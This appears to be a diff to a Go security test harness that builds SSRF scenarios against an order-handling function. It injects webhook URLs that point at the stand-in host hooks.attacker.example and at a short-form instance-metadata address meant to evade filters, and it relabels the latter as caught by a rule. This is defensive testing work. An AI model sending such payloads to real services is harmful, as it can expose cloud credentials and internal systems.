@@ -93,7 +93,8 @@ func scenario(events string) ([]step, error) {
 		return out
 	}
 	// The customer's webhook: a host the function never called, and the
-	// instance metadata written in a short form the inbound rules miss.
+	// instance metadata written in a short form (rule 100110 catches it;
+	// the wrapper's dial-time guard would too).
 	webhook := func(target string) string {
 		return strings.Replace(order, `"payment":"card"`, `"payment":"card","notify_url":"`+target+`"`, 1)
 	}
@@ -103,7 +104,7 @@ func scenario(events string) ([]step, error) {
 			{"HTTP POST, webhook at hooks.attacker.example", httpEvent("POST", "/orders", "", webhook(newHost+"/orders"), "198.51.100.77")},
 			{"HTTP POST, webhook at hooks.attacker.example", httpEvent("POST", "/orders", "", webhook(newHost+"/orders"), "198.51.100.78")},
 		}},
-		{"SSRF past the rules: metadata webhook", []call{
+		{"SSRF: metadata webhook", []call{
 			{"HTTP POST, webhook at 169.254.43518", httpEvent("POST", "/orders", "", webhook(metadataShort), "198.51.100.79")},
 		}},
 		{"injection attempts, one per source", []call{
